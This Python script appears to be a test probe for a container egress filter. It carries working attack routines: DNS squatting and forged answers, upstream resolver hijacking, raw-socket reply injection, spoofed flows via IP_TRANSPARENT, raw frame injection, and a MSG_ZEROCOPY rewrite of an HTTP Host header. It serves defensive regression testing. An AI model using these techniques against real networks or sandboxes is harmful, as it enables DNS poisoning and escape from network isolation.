#!/usr/bin/env python3
"""What a process inside a task container can do: run there with the host's python3
(`docker exec [--user 65534:65534] TASK python3 /egt/taskprobe.py COMMAND ...`), as root with
Docker's default capabilities or as an unprivileged uid. Stdlib only. Each command prints
one JSON line (long-running ones: one when ready, one per `go` read from stdin) and never
decides pass or fail: the test does.

  query NAME SERVER [PORT] [--tcp]      one DNS query (A) from this process
  resolver-ports NAME                   Docker's embedded resolver on its real ports: the
                                        sockets on 127.0.0.11 in /proc/net/udp and /proc/net/tcp
                                        (not port 53), each asked for NAME directly
  bind ADDR PORT                        can this process bind ADDR:PORT (udp and tcp)?
  squat ADDR... --port 53               bind ADDR:53 udp+tcp (what it can), answer every DNS
                                        query with a forged A record, count them; until stdin closes
  hijack-upstream SUFFIX FORGED         issue 14 class 3: take 127.0.0.11:53, find egressd's
                                        upstream port in /proc/net/udp; on `go`, send one datagram
                                        127.0.0.11:53 -> that port, ask for a fresh name under
                                        SUFFIX, answer egressd's upstream query (if it arrives)
                                        with FORGED, report what the client got
  forged-flow TARGET PORT               issue 14 class 1: a socket bound (IPV6_FREEBIND /
                                        IP_TRANSPARENT) to TARGET:PORT sends one datagram over
                                        loopback to our own address; then our socket sends to
                                        TARGET:PORT (the conntrack "reply" direction); echo?
  sniff-answer FORGED SECONDS [--armed] sniff egressd's queries to Docker's resolver on lo (after
                                        the DNAT: 127.0.0.11:<its real port>) and answer each from
                                        that address and port over a raw socket, ID and case
                                        copied, with FORGED; a line per try (its send error),
                                        then the tries and send errors. --armed: only the next
                                        new query after each `arm` line; `done` ends it
  raw-frame DSTMAC DST PORT TOKEN       issue 14 class 5: AF_PACKET frames (plain and with
                                        PACKET_QDISC_BYPASS) carrying UDP to DST:PORT
  zerocopy-http ADDR PORT SHOWN SENT [GO_FILE]
                                        hostname pinning's rewrite attack: a request head naming
                                        SHOWN, sent with MSG_ZEROCOPY from this process's page
                                        without its last line end; ready once sent; on `go`
                                        (a line on stdin, or GO_FILE appearing),
                                        rewrites the page to name SENT (same length), ends the
                                        head and reports the server's answer
  tls ADDR PORT SNI                     a TLS handshake presenting SNI (no verification), then
                                        one "ping" and its reply (issue 16: hostname pinning)
  http ADDR PORT HOST                   one HTTP/1.1 GET with that Host, and the reply
"""
import errno
import ipaddress
import json
import os
import random
import select
import socket
import ssl
import struct
import sys
import time

DOCKER_DNS = "127.0.0.11"
IPV6_FREEBIND = 78
IP_TRANSPARENT = 19
PACKET_QDISC_BYPASS = 20
SOL_PACKET = 263
ETH_P_ALL = 0x0003


def out(obj):
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


def err_name(e: OSError) -> str:
    if isinstance(e, socket.timeout) and e.errno is None:
        return "timeout"
    return errno.errorcode.get(e.errno, str(e.errno))


def family_of(addr):
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


# --- DNS wire format ------------------------------------------------------------------------


def build_query(name, qid, qtype=1):
    wire = b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", qtype, 1)


def question_end(msg):
    off = 12
    while msg[off]:
        off += 1 + msg[off]
    return off + 1 + 4


def qname(msg):
    labels, off = [], 12
    while msg[off]:
        labels.append(msg[off + 1:off + 1 + msg[off]].decode("ascii", "replace"))
        off += 1 + msg[off]
    return ".".join(labels)


def parse_reply(msg):
    qid, flags, qd, an = struct.unpack_from("!HHHH", msg, 0)
    off = question_end(msg) if qd else 12
    addrs = []
    for _ in range(an):
        if msg[off] & 0xC0 == 0xC0:
            off += 2
        else:
            while msg[off]:
                off += 1 + msg[off]
            off += 1
        rtype, _cls, ttl, rdlen = struct.unpack_from("!HHIH", msg, off)
        off += 10
        if rtype == 1:
            addrs.append(socket.inet_ntop(socket.AF_INET, msg[off:off + rdlen]))
        elif rtype == 28:
            addrs.append(socket.inet_ntop(socket.AF_INET6, msg[off:off + rdlen]))
        off += rdlen
    rcodes = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
    return qid, rcodes.get(flags & 0xF, str(flags & 0xF)), addrs


def forged_answer(query, addr, ttl=0x7FFFFFFF):
    """An answer to `query` (its ID and question echoed exactly) with one A record."""
    qid = struct.unpack_from("!H", query)[0]
    question = query[12:question_end(query)]
    head = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0)
    rr = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, ttl, 4) + socket.inet_aton(addr)
    return head + question + rr


def dns_query(name, server, port=53, tcp=False, timeout=2.0, sock=None):
    """{'outcome': 'ok'|errno|'timeout', 'rcode', 'addresses'}"""
    qid = random.randrange(0x10000)
    q = build_query(name, qid)
    t0 = time.monotonic()
    s = sock or socket.socket(family_of(server), socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    try:
        s.settimeout(timeout)
        s.connect((server, port))
        if tcp:
            s.sendall(struct.pack("!H", len(q)) + q)
            n = struct.unpack("!H", recv_exact(s, 2))[0]
            msg = recv_exact(s, n)
        else:
            s.send(q)
            while True:
                msg = s.recv(65536)
                if len(msg) >= 12 and struct.unpack_from("!H", msg)[0] == qid:
                    break
        _, rcode, addrs = parse_reply(msg)
        return {"outcome": "ok", "rcode": rcode, "addresses": addrs, "ms": round((time.monotonic() - t0) * 1000, 1)}
    except OSError as e:
        return {"outcome": err_name(e), "rcode": None, "addresses": [],
                "ms": round((time.monotonic() - t0) * 1000, 1)}
    except EOFError:
        return {"outcome": "EOF", "rcode": None, "addresses": []}
    finally:
        if sock is None:
            s.close()


def recv_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise EOFError
        buf += chunk
    return buf


# --- /proc/net ------------------------------------------------------------------------------


def proc_sockets(kind, want_state):
    """(local_addr, local_port, remote_addr, remote_port, uid) of IPv4 sockets in
    /proc/net/<kind> whose state is `want_state` (hex; None = any)."""
    rows = []
    with open(f"/proc/net/{kind}") as f:
        next(f)
        for line in f:
            p = line.split()
            local, remote, st, uid = p[1], p[2], p[3], int(p[7])
            if want_state and st != want_state:
                continue
            la, lp = local.split(":")
            ra, rp = remote.split(":")
            rows.append((socket.inet_ntoa(struct.pack("<I", int(la, 16))), int(lp, 16),
                         socket.inet_ntoa(struct.pack("<I", int(ra, 16))), int(rp, 16), uid))
    return rows


def resolver_ports():
    """Docker's resolver listens on 127.0.0.11:<random> (udp and tcp) behind a DNAT of :53."""
    udp = sorted({lp for la, lp, ra, rp, _ in proc_sockets("udp", "07") if la == DOCKER_DNS and lp != 53 and rp == 0})
    tcp = sorted({lp for la, lp, _, _, _ in proc_sockets("tcp", "0A") if la == DOCKER_DNS and lp != 53})
    return udp, tcp


# --- commands -------------------------------------------------------------------------------


def cmd_query(args):
    tcp = "--tcp" in args
    args = [a for a in args if a != "--tcp"]
    name, server = args[0], args[1]
    port = int(args[2]) if len(args) > 2 else 53
    out(dns_query(name, server, port, tcp=tcp))


def cmd_marked_query(args):
    """A query for args[0] to args[1]:53 from a UDP socket with SO_MARK args[2] (NET_RAW)."""
    s = socket.socket(family_of(args[1]), socket.SOCK_DGRAM)
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, struct.pack("I", int(args[2], 16)))
    except OSError as e:
        s.close()
        return out({"outcome": "mark: " + err_name(e), "rcode": None, "addresses": []})
    with s:
        out(dns_query(args[0], args[1], sock=s))


def cmd_resolver_ports(args):
    name = args[0]
    udp, tcp = resolver_ports()
    res = {"uid": os.getuid(), "udp_ports": udp, "tcp_ports": tcp, "udp": [], "tcp": []}
    for p in udp:
        res["udp"].append({"port": p, **dns_query(name, DOCKER_DNS, p, timeout=1.5)})
    for p in tcp:
        res["tcp"].append({"port": p, **dns_query(name, DOCKER_DNS, p, tcp=True, timeout=1.5)})
    out(res)


def try_bind(addr, port, kind):
    s = socket.socket(family_of(addr), kind)
    try:
        if ":" in addr:
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        s.bind((addr, port))
        if kind == socket.SOCK_STREAM:
            s.listen(16)
        return s, "ok"
    except OSError as e:
        s.close()
        return None, err_name(e)


def cmd_bind(args):
    addr, port = args[0], int(args[1])
    res = {"uid": os.getuid()}
    for kind, label in ((socket.SOCK_DGRAM, "udp"), (socket.SOCK_STREAM, "tcp")):
        s, what = try_bind(addr, port, kind)
        res[label] = what
        if s:
            s.close()
    out(res)


def cmd_squat(args):
    port = 53
    if "--port" in args:
        i = args.index("--port")
        port = int(args[i + 1])
        args = args[:i] + args[i + 2:]
    forged = "192.0.2.66"  # an address no test server has: a reply carrying it came from here
    socks, binds = [], {}
    for addr in args:
        for kind, label in ((socket.SOCK_DGRAM, "udp"), (socket.SOCK_STREAM, "tcp")):
            s, what = try_bind(addr, port, kind)
            binds[f"{addr}:{port}/{label}"] = what
            if s:
                socks.append((s, kind))
    out({"uid": os.getuid(), "binds": binds, "forged": forged})
    seen = 0
    rlist = [s for s, _ in socks] + [sys.stdin]
    while True:
        ready, _, _ = select.select(rlist, [], [])
        for r in ready:
            if r is sys.stdin:
                if not sys.stdin.readline():
                    out({"queries": seen})
                    return
                continue
            kind = next(k for s, k in socks if s is r)
            try:
                if kind == socket.SOCK_DGRAM:
                    q, peer = r.recvfrom(65536)
                    seen += 1
                    r.sendto(forged_answer(q, forged, 60), peer)
                else:
                    c, _ = r.accept()
                    with c:
                        c.settimeout(1.0)
                        n = struct.unpack("!H", recv_exact(c, 2))[0]
                        q = recv_exact(c, n)
                        seen += 1
                        a = forged_answer(q, forged, 60)
                        c.sendall(struct.pack("!H", len(a)) + a)
            except (OSError, EOFError, struct.error, IndexError):
                pass


def cmd_hijack_upstream(args):
    suffix, forged = args[0], args[1]
    res = {"uid": os.getuid()}
    trap, res["bind"] = try_bind(DOCKER_DNS, 53, socket.SOCK_DGRAM)
    # egressd's upstream socket: connected to 127.0.0.11:53 (before Docker's DNAT).
    ports = sorted({lp for la, lp, ra, rp, _ in proc_sockets("udp", None) if ra == DOCKER_DNS and rp == 53})
    if not ports:
        # Make egressd talk to its upstream once, then look again.
        dns_query(f"p{random.getrandbits(32):08x}.{suffix}", DOCKER_DNS, timeout=2.0)
        ports = sorted({lp for la, lp, ra, rp, _ in proc_sockets("udp", None) if ra == DOCKER_DNS and rp == 53})
    res["upstream_ports"] = ports
    out(res)
    if not sys.stdin.readline():
        return
    result = {"poisoned": False, "queries_seen": [], "victim": None}
    if trap is None or not ports:
        result["why_not"] = "could not bind 127.0.0.11:53" if trap is None else "no upstream socket found"
        victim = dns_query(f"v{random.getrandbits(32):08x}.{suffix}", DOCKER_DNS, timeout=3.0)
        result["victim"] = victim
        out(result)
        return
    for p in ports:
        try:
            trap.sendto(b"\0" * 12, ("127.0.0.1", p))
        except OSError as e:
            result.setdefault("send_errors", []).append(err_name(e))
    victim_name = f"v{random.getrandbits(32):08x}.{suffix}"
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(3.0)
    client.connect((DOCKER_DNS, 53))
    qid = random.randrange(0x10000)
    client.send(build_query(victim_name, qid))
    deadline = time.monotonic() + 3.0
    victim = None
    while time.monotonic() < deadline and victim is None:
        ready, _, _ = select.select([trap, client], [], [], max(0.0, deadline - time.monotonic()))
        for r in ready:
            if r is trap:
                q, peer = trap.recvfrom(65536)
                try:
                    result["queries_seen"].append(qname(q))
                    trap.sendto(forged_answer(q, forged), peer)
                    result["poisoned"] = True
                except (IndexError, struct.error):
                    pass
            else:
                msg = client.recv(65536)
                if len(msg) >= 12 and struct.unpack_from("!H", msg)[0] == qid:
                    _, rcode, addrs = parse_reply(msg)
                    victim = {"outcome": "ok", "rcode": rcode, "addresses": addrs, "name": victim_name}
    result["victim"] = victim or {"outcome": "timeout", "name": victim_name}
    out(result)


def own_address(family):
    """This namespace's global address on eth0 (what the task's packets carry)."""
    if family == socket.AF_INET6:
        with open("/proc/net/if_inet6") as f:
            for line in f:
                p = line.split()
                if p[5] == "eth0" and int(p[3], 16) == 0:  # scope global
                    return str(ipaddress.IPv6Address(bytes.fromhex(p[0])))
        raise SystemExit("no global IPv6 address on eth0")
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    import fcntl
    packed = fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", b"eth0"))  # SIOCGIFADDR
    return socket.inet_ntoa(packed[20:24])


def cmd_forged_flow(args):
    target, port = args[0], int(args[1])
    fam = family_of(target)
    own = own_address(fam)
    res = {"uid": os.getuid(), "own": own, "target": target}
    forger = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        if fam == socket.AF_INET6:
            forger.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        else:
            forger.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        forger.bind((target, port))
    except OSError as e:
        res["forge"] = err_name(e)
        res["echo"] = False
        out(res)
        return
    mine = socket.socket(fam, socket.SOCK_DGRAM)
    mine.bind((own, 0))
    mine.settimeout(2.0)
    my_port = mine.getsockname()[1]
    # One datagram "from" TARGET:PORT to us, over loopback: conntrack now has TARGET -> us.
    try:
        forger.sendto(b"hello", (own, my_port))
        res["forged_send"] = "ok"
        data, peer = mine.recvfrom(100)
        res["forged_arrived_from"] = peer[0]
    except OSError as e:
        res.setdefault("forged_send", err_name(e))
        res["forged_arrived_from"] = err_name(e)
    token = f"forged-flow-{random.getrandbits(64):016x}".encode()
    try:
        mine.sendto(token, (target, port))
        res["send"] = "ok"
        deadline = time.monotonic() + 2.0
        res["echo"] = False
        while time.monotonic() < deadline:
            mine.settimeout(max(0.001, deadline - time.monotonic()))
            data, peer = mine.recvfrom(65536)
            if data == token:
                res["echo"] = True
                res["echo_from"] = peer[0]
                break
    except OSError as e:
        res.setdefault("send", err_name(e))
        res["echo"] = False
        res["recv"] = err_name(e)
    out(res)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def cmd_sniff_answer(args):
    forged, seconds = args[0], float(args[1])
    armed_mode = "--armed" in args[2:]
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sniff.bind(("lo", 0))
    sniff.setblocking(False)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    resolver = socket.inet_aton(DOCKER_DNS)
    with open("/proc/self/cgroup") as f:
        cgroup = [l for l in f.read().splitlines() if l.startswith("0::")]
    out({"uid": os.getuid(), "cgroup": cgroup})
    seen, tried, sent, errors = set(), 0, 0, set()
    armed = 0   # --armed: forge only the next `armed` new queries (one per "arm" line on stdin)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        readable, _, _ = select.select([sniff, sys.stdin] if armed_mode else [sniff], [], [], 0.02)
        if sys.stdin in readable:
            line = sys.stdin.readline().strip()
            if line == "arm":
                armed += 1
            elif line in ("done", ""):
                break
        if sniff not in readable:
            continue
        try:
            frame = sniff.recv(65535)
        except BlockingIOError:
            continue
        pkt = frame[14:]
        if len(pkt) < 40 or pkt[9] != 17 or pkt[16:20] != resolver:
            continue
        ihl = (pkt[0] & 0xF) * 4
        sport, dport = struct.unpack_from("!HH", pkt, ihl)
        q = pkt[ihl + 8:]
        if dport == 53 or len(q) < 17 or q[2] & 0x80 or (sport, q[:2]) in seen:
            continue
        seen.add((sport, q[:2]))
        if armed_mode:
            if armed == 0:
                continue
            armed -= 1
        try:
            a = forged_answer(q, forged, ttl=300)
        except (IndexError, struct.error):
            continue
        udp = struct.pack("!HHHH", dport, sport, 8 + len(a), 0) + a
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, resolver, pkt[12:16])
        tried += 1
        try:
            raw.sendto(ip + udp, (socket.inet_ntoa(pkt[12:16]), 0))
            sent += 1
            out({"try": tried, "port": sport, "error": None})
        except OSError as e:
            errors.add(err_name(e))
            out({"try": tried, "port": sport, "error": err_name(e)})
    out({"tried": tried, "sent": sent, "errors": sorted(errors)})


def cmd_raw_frame(args):
    dst_mac, dst, port, token = args[0], args[1], int(args[2]), args[3]
    src = own_address(socket.AF_INET)
    with open("/sys/class/net/eth0/address") as f:
        src_mac = f.read().strip()
    res = {"uid": os.getuid(), "src": src}
    try:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s.bind(("eth0", 0))
    except OSError as e:
        res["socket"] = err_name(e)
        out(res)
        return
    res["socket"] = "ok"
    for variant in ("plain", "qdisc_bypass"):
        payload = f"{token}-{variant}".encode()
        udp = struct.pack("!HHHH", random.randrange(20000, 60000), port, 8 + len(payload), 0) + payload
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(0x10000), 0x4000, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        frame = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00"
        try:
            if variant == "qdisc_bypass":
                s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
            s.send(frame + ip + udp)
            res[variant] = "sent"
        except OSError as e:
            res[variant] = err_name(e)
    out(res)


# --- TLS and HTTP (issue 16: what a pinned flow presents) ------------------------------------


def stream_outcome(fn):
    """{'outcome': 'ok'|'ECONNRESET'|'timeout'|errno|'tls: ...', 'reply', 'ms'}: a reset in the
    middle of a TLS handshake is ECONNRESET too (ssl reports it as an OSError)."""
    t0 = time.monotonic()
    try:
        reply = fn()
        res = {"outcome": "ok", "reply": reply.decode(errors="replace")}
    except ssl.SSLError as e:
        res = {"outcome": f"tls: {e.reason or e}", "reply": None}
    except OSError as e:
        res = {"outcome": err_name(e), "reply": None}
    res["ms"] = round((time.monotonic() - t0) * 1000, 1)
    return res


def cmd_tls(args):
    addr, port, sni = args[0], int(args[1]), args[2]

    def run():
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
        with socket.create_connection((addr, port), timeout=3.0) as s, ctx.wrap_socket(s, server_hostname=sni) as t:
            t.sendall(b"ping")
            return t.recv(100)
    out(stream_outcome(run))


def cmd_http(args):
    addr, port, host = args[0], int(args[1]), args[2]

    def run():
        with socket.create_connection((addr, port), timeout=3.0) as s:
            s.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            data = b""
            while chunk := s.recv(4096):
                data += chunk
            return data
    out(stream_outcome(run))


def cmd_zerocopy_http(args):
    import mmap
    addr, port, shown, sent = args[0], int(args[1]), args[2], args[3]
    assert len(shown) == len(sent), "the rewrite keeps the length"
    head = f"GET / HTTP/1.1\r\nHost: {shown}\r\nConnection: close\r\n".encode()
    page = mmap.mmap(-1, 4096)
    page[:len(head)] = head
    s = socket.create_connection((addr, port), timeout=3.0)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.setsockopt(socket.SOL_SOCKET, 60, 1)  # SO_ZEROCOPY
    assert s.send(memoryview(page)[:len(head)], 0x4000000) == len(head)  # MSG_ZEROCOPY
    out({"ready": True})
    if len(args) > 4:
        # The go as a file the host creates in the read-only mount: a `docker exec`'s stdin
        # took over a second under CI's load, past egressd's 2 s hold.
        deadline = time.monotonic() + 20
        while not os.path.exists(args[4]) and time.monotonic() < deadline:
            time.sleep(0.001)  # polling the condition, with a deadline
    else:
        sys.stdin.readline()
    at = head.index(shown.encode())
    page[at:at + len(sent)] = sent.encode()

    def run():
        with s:
            s.sendall(b"\r\n")
            data = b""
            while chunk := s.recv(4096):
                data += chunk
            return data
    out(stream_outcome(run))


COMMANDS = {
    "zerocopy-http": cmd_zerocopy_http,
    "query": cmd_query,
    "marked-query": cmd_marked_query,
    "resolver-ports": cmd_resolver_ports,
    "bind": cmd_bind,
    "squat": cmd_squat,
    "hijack-upstream": cmd_hijack_upstream,
    "forged-flow": cmd_forged_flow,
    "sniff-answer": cmd_sniff_answer,
    "raw-frame": cmd_raw_frame,
    "tls": cmd_tls,
    "http": cmd_http,
}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in COMMANDS:
        sys.exit(__doc__)
    COMMANDS[sys.argv[1]](sys.argv[2:])
